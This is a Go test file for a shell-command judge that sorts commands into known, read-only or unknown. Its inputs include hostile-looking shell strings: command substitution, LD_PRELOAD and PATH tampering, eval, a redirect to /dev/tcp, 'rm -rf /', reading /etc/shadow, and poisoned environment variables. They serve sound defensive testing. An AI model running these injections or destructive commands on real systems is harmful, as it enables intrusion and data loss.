package shell

import (
	"reflect"
	"strings"
	"testing"

	"chaperone.dev/chaperone/internal/access"
)

func TestJudgeCommands(t *testing.T) {
	t.Parallel()
	for text, want := range map[string][][]string{
		`uptime`:                             {{"uptime"}},
		`  ls   -l	/srv `:                    {{"ls", "-l", "/srv"}},
		`cat 'a b' "c d" e\ f`:               {{"cat", "a b", "c d", "e f"}},
		`echo 'it'\''s' "say \"hi\" \\ \$x"`: {{"echo", "it's", `say "hi" \ $x`}},
		`a && b || c; d | e & f`:             {{"a"}, {"b"}, {"c"}, {"d"}, {"e"}, {"f"}},
		"a\nb":                               {{"a"}, {"b"}},
		`! grep x y`:                         {{"grep", "x", "y"}},
		`make >/dev/null 2>&1`:               {{"make"}},
		`LANG=C LC_ALL=C.UTF-8 sort f`:       {{"sort", "f"}},
		`'ls' "-l"`:                          {{"ls", "-l"}},
		`echo "ö" 'ü'`:                       {{"echo", "ö", "ü"}},
		`grep 'a\.b' f`:                      {{"grep", `a\.b`, "f"}},
		`sudo -n -u www systemctl restart x`: {{"sudo", "-n", "-u", "www", "systemctl", "restart", "x"}, {"systemctl", "restart", "x"}},
		`env LANG=C nice -n 5 make -j 4`:     {{"env", "LANG=C", "nice", "-n", "5", "make", "-j", "4"}, {"nice", "-n", "5", "make", "-j", "4"}, {"make", "-j", "4"}},
		`timeout -k 5 10 nohup make`:         {{"timeout", "-k", "5", "10", "nohup", "make"}, {"nohup", "make"}, {"make"}},
		`sh -c 'a; b'`:                       {{"sh", "-c", "a; b"}, {"a"}, {"b"}},
		`bash -c "sh -c 'ls -l'"`:            {{"bash", "-c", "sh -c 'ls -l'"}, {"sh", "-c", "ls -l"}, {"ls", "-l"}},
		`command -v rsync`:                   {{"command", "-v", "rsync"}, {"rsync"}},
		`python3 /opt/report.py --day 1`:     {{"python3", "/opt/report.py", "--day", "1"}},
		`awk -F: '{print $1, $2}' f`:         {{"awk", "-F:", "{print $1, $2}", "f"}},
		`sed -n '1,5p' f`:                    {{"sed", "-n", "1,5p", "f"}},
		`find . -name '*.log' -mtime +3`:     {{"find", ".", "-name", "*.log", "-mtime", "+3"}},
	} {
		call := Judge(text, nil)
		if len(call.Unknown) > 0 || !reflect.DeepEqual(call.Commands, want) {
			t.Errorf("%s: got %q, unknown %q, want %q", text, call.Commands, call.Unknown, want)
		}
	}
}

// What is worked out on the host, runs text or is read differently by shells is
// unknown. Each stands for a way in which something unlisted could run.
func TestJudgeUnknown(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"", " \n\t", "$x", "ls $x", "ls ${x}", "ls $(id)", "ls `id`", `ls "$(id)"`, "ls \"`id`\"", "ls $((1+1))", "ls <(id)", "ls >(id)", "ls $'a'", `ls $"a"`,
		"ls *", "ls a?", "ls [ab]", "ls {a,b}", "ls a{1..3}", "ls ~root", "ls a=~/x", "ls '~/x'", `ls \~/x`, "ls x^y", "ls =ls", "ls %1", "ls a#b", "ls # a", "#a",
		"l*", "[ -f x ]", "[[ -f x ]]", "(ls)", "{ ls; }", "if a; then b; fi", "for i in a; do b; done", "while a; do b; done", "case a in a) b;; esac", "f() { ls; }", "f () { ls; }; f",
		"function f { ls; }", "((1))", "time ls", "coproc ls", "select x in a; do b; done", "ls |& wc", "ls &> f", "ls >& f", "ls >| f", "ls <> f", "ls <<E\na\nE", "cat <<< a", "ls <&3", "ls 12> f", "ls {x}> f", "ls >$f", "> f",
		"PATH=/tmp ls", "LD_PRELOAD=/tmp/x ls", "BASH_ENV=x sh f", "IFS=x ls", "x=1", "x=1 ls", "a+=b", "a[0]=1", "LANG=../../x ls", "LC_ALL=ja_JP.SJIS ls", "export A=b", "declare -x A=b", "readonly A=b", "local A=b",
		"eval ls", "'eval' ls", `\eval ls`, ". ./f", "source f", "builtin eval ls", "command eval ls", "exec eval ls", "alias ls=rm", "trap ls EXIT", "set -- a", "read x", "printf -v PATH /tmp", "printf 'xx%n' PATH", "printf '%5n' PATH", "printf %*d 1 2", "printf -- '%n' PATH", "jobs -x rm f", "fg", "hist -s", "printf %d 'a[$(id)]'", "test 'a[$(id)]' -eq 1", "exit 'a[$(id)]'", "shift 'a[$(id)]'",
		"sh", "ls | sh", "sh -s a", "sh -c", "sh -c a b", "sh -c 'ls $x'", "sh -xc ls", "bash --rcfile x", "python3", "python3 -c 'print(1)'", "python3 -m http.server", "perl -e 1", "ruby -e 1", "node -e 1", "php -r 1", "awk 'BEGIN{system(\"id\")}'", "awk -f x", "sed -n '1e id' f", "sed s/a/b/e f", "sed 's/a/b/w x' f",
		"xargs ls", "ls | xargs rm", "find . -exec ls {} +", "find . -exec ls '{}' ';'", "find . -newfangled x -execdir ls '{}' ';'", "ssh h ls", "su -c ls", "busybox sh", "vi f", "less f", "watch ls", "script", "crontab -", "chroot / ls", "sudo -s", "sudo -i", "sudo -e f", "sudo A=b ls", "sudo -u", "env -S 'ls -l'", "env PATH=x ls", "env -i ls", "nice --weird ls", "timeout --foreground 5 ls", "timeout 5 sh", "nohup sh", "setsid bash", "psql -c x", "/usr/lib/openssh/sftp-server",
		"ls 'a\\\\b'", `ls 'a\'`, `ls "a\b"`, "ls \"a\\`b\"", `ls a\nb`, "ls a\\\nb", "ls a\x00", "ls a\x1b[31m", "ls a\rb", "ls \xff", "ls ö", "ls\u00a0x", "ls 'a", `ls "a`, "ls )", "ls }", "ls ;;", "| ls", "&& ls", "ls &!", "ls &|", "- ls", "=ls", "+x", "@x", ",x", "noglob ls", "repeat 3 ls", "foreach x (a) ls; end", "not ls", "and ls", "begin; ls; end",
		"ls > /dev/tcp/10.0.0.1/80", "ls > /dev/sda", "/", "./", "../", "a/..",
		strings.Repeat("a", maxText+1), strings.Repeat("a;", maxCommands+1), strings.Repeat("sh -c '", 9), "nice nice nice nice nice nice ls",
	} {
		if call := Judge(text, nil); len(call.Unknown) == 0 || call.Act != access.ActExec || call.ReadOnly {
			t.Errorf("%q: %q is all that it is said to run (%s)", text, call.Commands, call.Act)
		}
	}
}

func TestJudgePaths(t *testing.T) {
	t.Parallel()
	type paths struct {
		reads, writes, removes string
		readOnly               bool
	}
	for text, want := range map[string]paths{
		`cat /etc/hosts notes.txt - ~/x`:                 {"/etc/hosts ~/notes.txt ~/x", "", "", true},
		`cat /srv//a/./b/ ./c`:                           {"/srv/a/b ~/c", "", "", true},
		`tail -n 50 -F /var/log/a | grep -i x > out.txt`: {"/var/log/a", "~/out.txt", "", false},
		`grep -rn x`:                       {"~", "", "", true},
		`grep -e x /a`:                     {"/a", "", "", true},
		`head -20 /a`:                      {"/a", "", "", true},
		`ls`:                               {"~", "", "", true},
		`ls -la --color=auto /srv`:         {"/srv", "", "", true},
		`uptime; id; date +%s; echo hi`:    {"", "", "", true},
		`cd /srv && cat /a`:                {"/a", "", "", true},
		`cp -r /a /b /c`:                   {"/a /b", "/c", "", false},
		`mv /a /c`:                         {"", "/c", "/a", false},
		`rm -rf /a b`:                      {"", "", "/a ~/b", false},
		`mkdir -p -m 700 /a`:               {"", "/a", "", false},
		`ln -s /etc/passwd x`:              {"/etc/passwd", "/etc/passwd ~/x", "", false},
		`chmod 600 /a`:                     {"", "/a", "", false},
		`uniq /a /b`:                       {"/a", "/b", "", false},
		`sudo -n cat /etc/shadow`:          {"/etc/shadow", "", "", true},
		`sort < /a >> /b 2> /dev/null`:     {"/a", "/b", "", false},
		`sed -n 5p /a`:                     {"/a", "", "", true},
		`find /var/log -name x -type f`:    {"/var/log", "", "", true},
		`kill 12`:                          {"", "", "", false},
		`/usr/bin/cat /a`:                  {"/a", "", "", true},
		`sh -c 'cat /a' && timeout 5 ls /`: {"/ /a", "", "", true},
		`grep -- -x /a; cat -- -b`:         {"/a ~/-b", "", "", true},
	} {
		call := Judge(text, nil)
		got := paths{strings.Join(call.Reads, " "), strings.Join(call.Writes, " "), strings.Join(call.Removes, " "), call.ReadOnly}
		if len(call.Unknown)+len(call.UnknownPaths) > 0 || got != want {
			t.Errorf("%s: got %+v, unknown %q %q, want %+v", text, got, call.Unknown, call.UnknownPaths, want)
		}
	}
}

func TestJudgeUnknownPaths(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"make", "tar cf x /srv", "./cat /a", "/tmp/cat /a", "./echo x", "/tmp/true", "~/cd /", "./find /a", "./sudo cat /a", "/tmp/env cat /a", "/tmp/timeout 5 cat /a", "cat /a/../b", "cat ..", "cd /srv && cat a", "cat --help", "sort -o /a /b", "date 0101", "date -s now", "hostname x", "find / -delete", "find / -fprint /a", "find /", "cp -t /a /b", "cp a",
		"ln -s a b", "tee --output-error /a", "grep -f /a /b", "grep --file=/a /b", "wc --files0-from=/a", "nohup make", "python3 /a", "rm --no-preserve-root -rf /", "awk '{print}' a=b /c", "md5sum -c /a", "file -m /a /b", "date -I 010112002026", "sudo touch --reference /a /b",
	} {
		call := Judge(text, nil)
		if text == "find /" {
			if len(call.UnknownPaths) > 0 {
				t.Errorf("%s: %q", text, call.UnknownPaths)
			}
			continue
		}
		if len(call.Unknown) > 0 || len(call.UnknownPaths) == 0 || call.ReadOnly {
			t.Errorf("%s: got reads %q writes %q removes %q, unknown %q", text, call.Reads, call.Writes, call.Removes, call.Unknown)
		}
	}
}

func TestJudgeEnvironment(t *testing.T) {
	t.Parallel()
	for name, value := range map[string]string{"LANG": "de_DE.UTF-8", "LC_ALL": "C", "LC_CTYPE": "en_US.utf8", "TERM": "xterm-256color", "GIT_PROTOCOL": "version=2", "TZ": "UTC"} {
		if call := Judge("ls", map[string]string{name: value}); len(call.Unknown) > 0 || call.Environment[name] != value {
			t.Errorf("%s=%s: %q", name, value, call.Unknown)
		}
	}
	for name, value := range map[string]string{"PATH": "/tmp", "LD_PRELOAD": "x", "BASH_ENV": "x", "ENV": "x", "SHELLOPTS": "x", "PS4": "$(id)", "IFS": "x", "HOME": "/tmp", "LANG": "../x/y", "LC_ALL": "ja_JP.SJIS", "LC_CTYPE": "zh_CN", "TZ": "/etc/shadow", "GIT_PROTOCOL": "x;id", "GIT_SSH_COMMAND": "id", "": ""} {
		if call := Judge("ls", map[string]string{name: value}); len(call.Unknown) == 0 {
			t.Errorf("%s=%s is taken for harmless", name, value)
		}
	}
}

func TestPath(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"/": "/", "//": "/", "///a": "/a", "/a/": "/a", "/a/.": "/a", "/./a//b": "/a/b", ".": "~", "./": "~", "a": "~/a", "./a/./b/": "~/a/b", "~": "~", "~/": "~", "~/a": "~/a",
		"...": "~/...", "/a..b": "/a..b", "a~": "~/a~", "-": "~/-", "/a/~/b": "/a/~/b",
		"": "!", "..": "!", "/..": "!", "../a": "!", "/a/../b": "!", "a/..": "!", "~root": "!", "~root/a": "!", "/a\x00b": "!", "~/..": "!",
	} {
		got, err := Path(name)
		if err != nil {
			got = "!"
		}
		if got != want {
			t.Errorf("%q: got %q (%v), want %q", name, got, err, want)
		}
	}
}
